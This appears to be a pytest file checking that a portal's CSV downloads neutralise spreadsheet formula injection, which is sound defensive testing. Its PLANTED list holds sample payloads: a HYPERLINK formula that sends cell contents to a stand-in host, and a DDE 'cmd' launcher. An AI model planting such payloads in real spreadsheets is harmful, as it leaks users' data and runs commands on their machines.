"""Downloads of the professional portal: a name that a spreadsheet would run as a formula is inert in every one of them."""

from __future__ import annotations

import ast
import csv
import io
import re
from dataclasses import replace
from datetime import UTC, date, datetime

import pytest

from app.board import audit_store as audit
from app.hotspots.report import spots_csv
from app.hotspots.store import Choice, HotSpot
from app.look.csv_text import csv_text
from app.outcomes import download as outcomes
from app.outcomes import report as outcome_report
from app.overlaps import report as overlaps
from app.overlaps.store import Analysis, Factor, Join, Level, Neighbourhood, Value
from app.searches import download as search_csv
from app.searches import report as search_report
from app.searches.store import Searches
from app.services import report as services
from app.services.store import Reach, ServiceKind
from core.audit.events import Event
from core.paths import PROJECT_ROOT
from core.periods import Period

YEAR = Period(date(2025, 1, 1), date(2025, 12, 1))
PLANTED = ('=HYPERLINK("http://x.example?"&A1;"Ashmoor")', "@x", "+1+cmd|' /C calc'!A0", "-2+3", "\tAshmoor", "\rAshmoor")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")


def hot_spots(name: str) -> str:
    spot = HotSpot("E01000001", name, "E07900001", 12, -1.25, -2.5e-7, 0.2, "hot", 99, None, None)
    choice = Choice("lsoa", "2021", "violence", "count", YEAR, 1, None, grid_area=name)
    return spots_csv([spot, replace(spot, code=name)], choice, {name: name})


def risk_overlaps(name: str) -> str:
    level = Level(1, "highest fifth", True, 10.0, 30, 5)
    factor = Factor("reports", "risk", "t", "Much reported", "reports per 1,000 residents", "s", "c", 40, "", (level,))
    place = Neighbourhood("E01000001", name, "E07900001", {}, {"reports": Value(-12.5, None, None, 1, 1, 1)})
    analysis = Analysis(7, datetime(2026, 1, 1, tzinfo=UTC), YEAR, (factor,))
    return overlaps.csv_of([place], [overlaps.Chosen(factor, level)], analysis, {"E01000001": Join(5, 2, 0.01)})


def service_reach(name: str) -> str:
    kind = ServiceKind(name, "Pharmacies", 1600, 5000, "", "", 12, 0, 9_000.0, 1_000.0, 200.0)
    reach = {"E01000001": Reach(1_500.0, False, 1_900.0, 300.0, 2_500.0, 0.5, 750.0, 0.0, 1.2)}
    places = [Neighbourhood(code, name, "E07900001", {}, {}) for code in ("E01000001", "E01000002")]
    return services.csv_of(kind, places, reach)


def outcomes_and_searches(name: str) -> str:
    of = outcomes.Where(name, "E07900001", name, str(YEAR), None)
    rates = search_report.found_rates([Searches("E07900001", name, name, name, 40, 10, 40)], "", lambda r: r.object_of_search)
    shares = outcome_report.shares({name: 30, "Suspect charged": 12})
    return outcomes.csv_of([*outcomes.outcome_rows(of, shares), *search_csv.found_rows("object of search", of, rates)])


def audit_trail(name: str) -> str:
    return audit.csv_of([Event(7, datetime(2026, 1, 1, tzinfo=UTC), name, "homeground_professional", name, name, {"patch": name})])


@pytest.mark.parametrize("name", PLANTED)
@pytest.mark.parametrize(
    "made", [hot_spots, risk_overlaps, service_reach, outcomes_and_searches, audit_trail], ids=lambda made: made.__name__
)
def test_a_planted_formula_is_inert_in_every_download(made: object, name: str) -> None:
    text = made(name)  # type: ignore[operator]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    fields = [field for row in rows for field in row]
    # it is there, led by an apostrophe
    assert f"'{name}" in fields
    for field in fields:
        assert not field.startswith(("=", "+", "-", "@", "\t", "\r")) or NUMBER.fullmatch(field), field
    assert all(row[-1].startswith("Not for publication") for row in rows[1:])


def test_a_figure_below_zero_stays_a_figure() -> None:
    (row, _) = csv.DictReader(io.StringIO(hot_spots("Ashmoor")))
    assert (row["value"], row["gi_z"]) == ("-1.25", "-2.5e-07")
    assert csv_text(["a"], [("-3",), (-3,), (None,), ("-3+A1",), ("-",)]) == "a\r\n-3\r\n-3\r\n\"\"\r\n'-3+A1\r\n'-\r\n"


def test_one_module_of_the_portal_writes_csv() -> None:
    writers = [
        str(path.relative_to(PROJECT_ROOT))
        for path in sorted((PROJECT_ROOT / "app").rglob("*.py"))
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, (ast.Import, ast.ImportFrom)) and "csv" in {a.name for a in node.names} | {getattr(node, "module", "")}
    ]
    assert writers == ["app/look/csv_text.py"]
